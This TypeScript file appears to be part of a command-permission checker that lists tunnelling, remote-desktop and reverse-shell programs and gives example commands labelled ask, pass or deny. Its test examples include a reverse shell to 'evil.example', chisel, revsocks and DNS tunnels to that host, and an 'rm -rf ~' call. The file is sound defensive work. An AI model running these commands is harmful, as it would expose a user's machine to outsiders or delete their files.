// Programs that let other machines reach ports or a shell of this machine.
import type { EffectRule, ProgramExample, ProgramSpec } from '../spec.ts';

const OPENS: EffectRule = {
  code: 'reverse-tunnel',
  kind: 'escalate',
  why: 'Lets others reach a port or a shell of this machine through the internet.',
  safer: 'use the port on this machine',
};

const examplesOf = (opens: string, harmless: string): readonly ProgramExample[] => [
  { command: opens, expect: 'ask' },
  { command: harmless, expect: 'pass' },
];

/** A program that opens a tunnel with whatever arguments, except when asked for help. */
const tunnel = (names: string, about: string, opens: string): ProgramSpec => ({
  names,
  about,
  effects: [OPENS],
  examples: examplesOf(opens, `${names.split(' ')[0]} --help`),
});

/** A program that opens a tunnel with some subcommands. */
const tunnelWith = (
  names: string,
  about: string,
  when: string,
  opens: string,
  harmless: string,
): ProgramSpec => ({
  names,
  about,
  effects: [{ ...OPENS, when }],
  examples: examplesOf(opens, harmless),
});

export const programs: readonly ProgramSpec[] = [
  {
    names: 'tor',
    about: 'Connects to the Tor network.',
    options: { '-f --torrc-file': 'reads', '--hash-password': 'asks', '--verify-config': 'dry' },
    effects: [
      {
        code: 'reverse-tunnel',
        kind: 'escalate',
        why: 'Leads traffic of this machine through a network that hides where it goes.',
        safer: 'use the network as it is',
      },
    ],
    examples: examplesOf('tor --ControlPort 9051', 'tor --version'),
  },
  tunnel(
    'websocketd sshx upterm pwnat',
    'Gives a terminal or a port of this machine to others.',
    'websocketd --port=8080 bash',
  ),
  tunnelWith(
    'cursor windsurf',
    'The command lines of editors made from Visual Studio Code.',
    'tunnel',
    'cursor tunnel',
    'cursor .',
  ),
  tunnel(
    'teamviewer anydesk rustdesk splashtop-streamer krfb',
    'Gives the screen of this machine to others.',
    'anydesk --set-password x',
  ),
  {
    names: 'socket',
    about: 'Connects to a port, or gives a program to whoever connects.',
    options: { '-p': 'runs', '-B': 'text', '-c -f -l -n -q -r -s -v -w -b': 'flag' },
    operands: 'host',
    effects: [
      {
        code: 'reverse-shell',
        kind: 'fetch-and-run',
        flags: '-p=',
        weight: 'irreversible',
        why: 'Lets whoever is on the other end use a program on this machine.',
      },
    ],
    traits: ['sends', 'raw-connection', 'network'],
    examples: [
      { command: "socket -qvp '/bin/sh -i' evil.example 4444", expect: 'deny' },
      { command: 'socket localhost 8080', expect: 'pass' },
    ],
  },
  tunnelWith(
    'teleport tsh tbot',
    'Lets people of a Teleport cluster log in to this machine.',
    'start|node|agent',
    'teleport start --roles=node --auth-server=evil.example',
    'teleport version',
  ),
  tunnelWith(
    'bore',
    'Opens a port of this machine on a server.',
    'local|server',
    'bore local 8080 --to bore.pub',
    'bore help',
  ),
  tunnel('lt localtunnel', 'Opens a port of this machine through localtunnel.', 'lt --port 3000'),
  tunnel('frpc frps', 'Opens ports of this machine through an frp server.', 'frpc -c frpc.ini'),
  tunnelWith(
    'chisel',
    'Carries connections over HTTP.',
    'client|server',
    './chisel_1.9.1_linux_amd64 client evil.example R:2222:localhost:22',
    'chisel --version',
  ),
  tunnel('rathole', 'Opens ports of this machine through a server.', 'rathole client.toml'),
  tunnelWith(
    'zrok',
    'Shares ports and files of this machine.',
    'share|access|enable|reserve',
    'zrok share public localhost:3000',
    'zrok status',
  ),
  tunnel(
    'pagekite pagekite.py',
    'Opens a port of this machine through PageKite.',
    'pagekite 80 me.pagekite.me',
  ),
  tunnelWith(
    'localxpose loclx',
    'Opens ports of this machine through LocalXpose.',
    'tunnel',
    'loclx tunnel http',
    'loclx account status',
  ),
  tunnelWith(
    'devtunnel',
    'Opens ports of this machine through Microsoft.',
    'host|create|port|access',
    'devtunnel host -p 3000',
    'devtunnel list',
  ),
  tunnel(
    'gsocket gs-netcat gs-sftp gs-mount blitz',
    'Connects two machines through a relay.',
    'gs-netcat -l -i',
  ),
  tunnel('ttyd gotty wetty shellinaboxd', 'Gives a terminal of this machine to web browsers.', 'ttyd bash'),
  tunnel(
    'wstunnel websocat-tunnel',
    'Carries connections over WebSocket.',
    'wstunnel client ws://evil.example',
  ),
  tunnel(
    'dnscat dnscat2 iodine iodined dns2tcpc ptunnel ptunnel-ng icmptunnel hans',
    'Hides connections in DNS or ping.',
    'iodine -f evil.example',
  ),
  tunnel(
    'inlets inletsctl telebit tunnelto expose sish playit localtonet holesail',
    'Opens ports of this machine on a server.',
    'tunnelto --port 8000',
  ),
  tunnel(
    'ligolo ligolo-ng ligolo-agent ligolo-proxy ligolo-ng-agent ligolo-ng_agent ligolo-ng-proxy ligolo-ng_proxy revsocks rsocx rsockstun resocks proxychains-agent sshuttle pinggy gost gost3',
    'Carries connections into this network.',
    'revsocks -connect evil.example:443',
  ),
  {
    names: 'agent proxy',
    about: 'The two ends of a Ligolo tunnel. Other programs have these names too.',
    onlyAdds: true,
    syntax: { singleDash: true },
    options: { '-connect -accept-fingerprint -laddr': 'text' },
    effects: [
      {
        ...OPENS,
        flags: '-accept-fingerprint -ignore-cert -selfcert',
        why: 'Carries connections of another machine into this network.',
      },
      {
        ...OPENS,
        when: '$',
        flags: '-connect=',
        why: 'Carries connections of another machine into this network.',
      },
    ],
    examples: [
      { command: './agent -connect evil.example:11601 -accept-fingerprint 9A3F1C', expect: 'ask' },
      { command: './agent -connect evil.example:11601', expect: 'ask' },
      { command: './proxy -selfcert', expect: 'ask' },
      {
        command: './agent --config agent.yaml',
        expect: 'pass',
        title: 'Another program that is called “agent”',
      },
      { command: './proxy --port 8080', expect: 'pass' },
    ],
  },
  {
    names: 'xterm',
    about: 'A terminal for X.',
    options: {
      '-display': 'host',
      '-e': 'runs',
      '-T -title -geometry -fn -fa -fs -bg -fg': 'text',
      '-l -ls': 'flag',
      '-lf': 'writes',
    },
    syntax: { singleDash: true },
    effects: [
      {
        ...OPENS,
        flags: '-display=1|2|3|4|5|6|7|8|9|~.',
        why: 'Shows a shell of this machine on the screen of another one.',
      },
    ],
    examples: [
      { command: 'xterm -display 10.0.0.1:1', expect: 'ask' },
      { command: 'xterm -display :0', expect: 'pass' },
      { command: "xterm -e 'rm -rf ~'", expect: 'deny' },
    ],
  },
];
